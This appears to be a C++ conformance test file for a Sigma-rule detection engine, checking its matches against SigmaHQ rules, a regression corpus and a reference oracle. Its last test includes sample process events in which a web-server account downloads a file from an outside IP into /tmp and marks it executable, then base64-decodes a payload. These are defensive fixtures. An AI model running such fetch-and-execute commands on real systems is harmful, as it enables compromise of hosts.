// Conformance over ../shared (skipped when absent):
//  - SigmaHQ regression corpus: each rule fires at least its expected count on its events
//    (>= 98 % pass; failures are printed with their cause);
//  - the SigmaHQ rule set loads (>= 95 % of rules), rejections reported by reason;
//  - the indexed engine and the rule-by-rule oracle give identical matches on every corpus.

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <map>
#include <sstream>

#include "absl/strings/numbers.h"
#include "absl/strings/str_split.h"
#include "agent/event/readers/event_reader.h"
#include "agent/sigma/compiled_rules.h"
#include "agent/sigma/engine.h"

namespace otasuke::agent::sigma {
namespace {

namespace fs = std::filesystem;

std::string SharedDir() {
  const char* d = std::getenv("OTASUKE_SHARED_DIR");
  return d != nullptr ? d : "../shared";
}

struct RegressionCase {
  std::string rule_id, rule_path, event_file;
  int expected = 0;
};

std::vector<RegressionCase> ReadIndex(const std::string& root) {
  std::ifstream in(root + "/INDEX.tsv");
  std::vector<RegressionCase> cases;
  std::string line;
  std::getline(in, line);  // header
  while (std::getline(in, line)) {
    std::vector<std::string> cols = absl::StrSplit(line, '\t');
    if (cols.size() < 7) continue;
    RegressionCase c{.rule_id = cols[0], .rule_path = cols[1], .event_file = cols[5]};
    if (!absl::SimpleAtoi(cols[6], &c.expected)) continue;
    cases.push_back(std::move(c));
  }
  return cases;
}

// Reads every event of a file into owned copies (events are reused by the reader).
std::vector<Event> LoadEvents(const std::string& path, std::string* error) {
  std::vector<Event> events;
  readers::ReadStats stats;
  absl::Status st = readers::ReadEventFile(
      path, [&](const Event& e) { events.push_back(e); }, &stats);
  if (!st.ok()) *error = std::string(st.message());
  return events;
}

TEST(SigmaConformance, RegressionCorpus) {
  const std::string root = SharedDir() + "/conformance/sigma-regression";
  if (!fs::exists(root + "/INDEX.tsv")) GTEST_SKIP() << root << " absent: conformance skipped";
  const std::vector<RegressionCase> cases = ReadIndex(root);
  ASSERT_FALSE(cases.empty());
  int passed = 0;
  std::vector<std::string> failures;
  for (const RegressionCase& c : cases) {
    auto files = ReadRuleFiles({root + "/" + c.rule_path});
    if (!files.ok()) {
      failures.push_back(c.rule_path + ": " + std::string(files.status().message()));
      continue;
    }
    auto compiled = CompileSigmaRules(*files);
    if (!compiled.ok() || compiled->rules->rules().empty()) {
      failures.push_back(c.rule_path + ": rule rejected: " +
                         (compiled.ok() && !compiled->report.errors.empty()
                              ? compiled->report.errors[0].ToString()
                              : std::string(compiled.status().message())));
      continue;
    }
    std::string error;
    std::vector<Event> events = LoadEvents(root + "/" + c.event_file, &error);
    if (!error.empty()) {
      failures.push_back(c.rule_path + ": events: " + error);
      continue;
    }
    SigmaEngine engine;
    RuleByRuleEngine oracle;
    int hits = 0;
    for (const Event& e : events) {
      std::vector<uint32_t> a, b;
      engine.Match(*compiled->rules, e, &a);
      oracle.Match(*compiled->rules, e, &b);
      EXPECT_EQ(a, b) << c.rule_path << ": engine and oracle disagree";
      for (uint32_t r : a) hits += compiled->rules->rules()[r].meta.id == c.rule_id ? 1 : 0;
    }
    if (hits >= c.expected) {
      ++passed;
    } else {
      std::string source;
      if (!events.empty()) {
        const LogSource& s = events[0].source();
        source = s.product + "/" + s.category + "/" + s.service;
      }
      failures.push_back(c.rule_path + ": fired " + std::to_string(hits) + " of " +
                         std::to_string(c.expected) + " on " + std::to_string(events.size()) +
                         " event(s), event logsource " + source);
    }
  }
  const double rate = 100.0 * passed / cases.size();
  std::cout << "sigma-regression: " << passed << "/" << cases.size() << " passed (" << rate
            << " %)\n";
  for (const std::string& f : failures) std::cout << "  FAIL " << f << "\n";
  EXPECT_GE(rate, 98.0);
}

TEST(SigmaConformance, SigmaHqRulesetLoads) {
  const std::string root = SharedDir() + "/rulesets/sigma/rules";
  if (!fs::exists(root)) GTEST_SKIP() << root << " absent: load test skipped";
  auto files = ReadRuleFiles({root});
  ASSERT_TRUE(files.ok()) << files.status();
  auto compiled = CompileSigmaRules(*files);
  ASSERT_TRUE(compiled.ok()) << compiled.status();
  const LoadReport& report = compiled->report;
  std::cout << "rulesets/sigma: " << report.Summary();
  for (const LoadIssue& e : report.errors) std::cout << "  " << e.ToString() << "\n";
  std::map<std::string, int> by_source;
  for (const DetectionRule& r : compiled->rules->rules()) {
    ++by_source[r.logsource.product + "/" + r.logsource.category + "/" + r.logsource.service];
  }
  for (const auto& [source, n] : by_source) std::cout << "  loaded " << source << ": " << n << "\n";
  const double rate = 100.0 * report.rules_loaded / report.documents;
  std::cout << "load rate " << rate << " %\n";
  EXPECT_GE(rate, 95.0);
}

// Variants of an event that sit on the edges of the engine's shortcuts (literal hits, the
// prefix/suffix/exact hash index): every table field value uppercased, cut by its last byte,
// cut by its first byte, and extended by a byte at both ends.
std::vector<Event> EdgeVariants(const Event& e) {
  std::vector<Event> out(4, e);
  for (size_t i = 0; i < kFieldCount; ++i) {
    const auto id = static_cast<FieldId>(i);
    if (!e.Has(id)) continue;
    const std::string v(e.Get(id));
    std::string upper = v;
    std::transform(upper.begin(), upper.end(), upper.begin(),
                   [](unsigned char c) { return static_cast<char>(std::toupper(c)); });
    out[0].Set(id, upper);
    out[1].Set(id, v.empty() ? v : v.substr(0, v.size() - 1));
    out[2].Set(id, v.empty() ? v : v.substr(1));
    out[3].Set(id, "x" + v + "x");
  }
  return out;
}

TEST(SigmaConformance, EngineEqualsOracleOnFullRulesetAndAllRegressionEvents) {
  const std::string rules_root = SharedDir() + "/rulesets/sigma/rules";
  const std::string reg_root = SharedDir() + "/conformance/sigma-regression";
  if (!fs::exists(rules_root) || !fs::exists(reg_root)) GTEST_SKIP() << "../shared absent";
  std::vector<std::string> paths = {rules_root, reg_root + "/rules"};
  auto files = ReadRuleFiles(paths);
  ASSERT_TRUE(files.ok()) << files.status();
  // Both prefilter backends (Hyperscan where built in, and the portable automaton).
  for (const bool hyperscan : {true, false}) {
    auto compiled = CompileSigmaRules(
        *files, {.strict = false, .ruleset_version = "", .prefer_hyperscan = hyperscan});
    ASSERT_TRUE(compiled.ok()) << compiled.status();
    SigmaEngine engine;
    RuleByRuleEngine oracle;
    size_t events = 0, matches = 0;
    for (const RegressionCase& c : ReadIndex(reg_root)) {
      std::string error;
      for (const Event& original : LoadEvents(reg_root + "/" + c.event_file, &error)) {
        std::vector<Event> variants = EdgeVariants(original);
        variants.insert(variants.begin(), original);
        for (size_t v = 0; v < variants.size(); ++v) {
          std::vector<uint32_t> a, b;
          engine.Match(*compiled->rules, variants[v], &a);
          oracle.Match(*compiled->rules, variants[v], &b);
          ASSERT_EQ(a, b) << c.event_file << " variant " << v;
          ++events;
          matches += a.size();
        }
      }
    }
    std::cout << (hyperscan ? "hyperscan-or-default" : "aho-corasick") << ": " << events
              << " events, " << matches << " matches, identical in both engines\n";
    EXPECT_GT(matches, 0u);
  }
}

// The candidate memo (SIGMA.md engine steps 8 and 9) answers rules from earlier events with
// the same prefilter values: three passes over every regression event and its edge variants,
// each pass with other values outside the memo's key (ProcessId, an extra field), agree with
// the oracle with the memo on and off.
TEST(SigmaConformance, EngineEqualsOracleWithTheCandidateMemoOnAndOff) {
  const std::string rules_root = SharedDir() + "/rulesets/sigma/rules";
  const std::string reg_root = SharedDir() + "/conformance/sigma-regression";
  if (!fs::exists(rules_root) || !fs::exists(reg_root)) GTEST_SKIP() << "../shared absent";
  auto files = ReadRuleFiles({rules_root, reg_root + "/rules"});
  ASSERT_TRUE(files.ok()) << files.status();
  auto compiled = CompileSigmaRules(*files);
  ASSERT_TRUE(compiled.ok()) << compiled.status();
  std::vector<Event> events;
  for (const RegressionCase& c : ReadIndex(reg_root)) {
    std::string error;
    for (const Event& original : LoadEvents(reg_root + "/" + c.event_file, &error)) {
      events.push_back(original);
      for (Event& v : EdgeVariants(original)) events.push_back(std::move(v));
    }
  }
  SigmaEngine with_memo;
  // Without either memo that answers candidates from a key (the event memo keeps the same
  // answers).
  SigmaEngine without_memo({.candidate_memo_entries = 0, .event_memo_entries = 0});
  RuleByRuleEngine oracle;
  size_t matches = 0;
  for (int pass = 0; pass < 3; ++pass) {
    for (size_t i = 0; i < events.size(); ++i) {
      Event e = events[i];
      e.Set(FieldId::kProcessId, std::to_string(pass == 1 ? 4 : 1000 + 37 * pass + i));
      e.SetExtra("OtasukeTestNote", pass == 2 ? "whoami" : "-");
      std::vector<uint32_t> a, b, want;
      with_memo.Match(*compiled->rules, e, &a);
      without_memo.Match(*compiled->rules, e, &b);
      oracle.Match(*compiled->rules, e, &want);
      ASSERT_EQ(a, want) << "pass " << pass << " event " << i;
      ASSERT_EQ(b, want) << "pass " << pass << " event " << i;
      matches += want.size();
    }
  }
  std::cout << 3 * events.size() << " events, " << matches << " matches, "
            << with_memo.stats().memo_results << " answers from the candidate and event memos\n";
  EXPECT_GT(with_memo.stats().memo_results, 0u);
  EXPECT_EQ(without_memo.stats().memo_results, 0u);
}

// Linux process events as the agent's live source renders them (Otasuke JSON) meet the
// SigmaHQ Linux rules unchanged.
TEST(SigmaConformance, SigmaHqLinuxRulesFireOnAgentProcessEvents) {
  const std::string root = SharedDir() + "/rulesets/sigma/rules/linux";
  if (!fs::exists(root)) GTEST_SKIP() << root << " absent";
  auto files = ReadRuleFiles({root});
  ASSERT_TRUE(files.ok()) << files.status();
  auto compiled = CompileSigmaRules(*files);
  ASSERT_TRUE(compiled.ok()) << compiled.status();
  const std::string events =
      R"({"time":"2026-01-02T03:04:05Z","logsource":{"product":"linux","category":"process_creation"},)"
      R"("event":{"Image":"/usr/bin/bash","CommandLine":"sh -c /usr/bin/curl -s http://203.0.113.9/x -o /tmp/x; chmod +x /tmp/x","User":"www-data","ProcessId":"4242","ParentImage":"/usr/sbin/apache2"}})"
      "\n"
      R"({"time":"2026-01-02T03:04:06Z","logsource":{"product":"linux","category":"process_creation"},)"
      R"("event":{"Image":"/usr/bin/base64","CommandLine":"base64 -d /tmp/payload.b64","User":"www-data","ProcessId":"4243"}})"
      "\n"
      R"({"time":"2026-01-02T03:04:07Z","logsource":{"product":"linux","category":"process_creation"},)"
      R"("event":{"Image":"/usr/bin/ls","CommandLine":"ls -la /home","User":"alice","ProcessId":"4244"}})"
      "\n";
  SigmaEngine engine;
  RuleByRuleEngine oracle;
  std::vector<std::vector<std::string>> fired;
  readers::ReadStats stats;
  ASSERT_TRUE(readers::ReadEvents(
                  events, "linux.json",
                  [&](const Event& e) {
                    std::vector<uint32_t> a, b;
                    engine.Match(*compiled->rules, e, &a);
                    oracle.Match(*compiled->rules, e, &b);
                    EXPECT_EQ(a, b);
                    fired.emplace_back();
                    for (uint32_t r : a) {
                      fired.back().push_back(compiled->rules->rules()[r].meta.id);
                    }
                  },
                  &stats)
                  .ok());
  ASSERT_EQ(fired.size(), 3u);
  auto has = [](const std::vector<std::string>& ids, const std::string& id) {
    return std::find(ids.begin(), ids.end(), id) != ids.end();
  };
  EXPECT_TRUE(has(fired[0], "a2d9e2f3-0f43-4c7a-bcd9-9acfc0d723aa"));  // curl/wget exec in /tmp
  EXPECT_TRUE(has(fired[1], "e2072cab-8c9a-459b-b63c-40ae79e27031"));  // base64 decode
  EXPECT_TRUE(fired[2].empty()) << fired[2].size() << " rule(s) on a plain ls";
}

}  // namespace
}  // namespace otasuke::agent::sigma
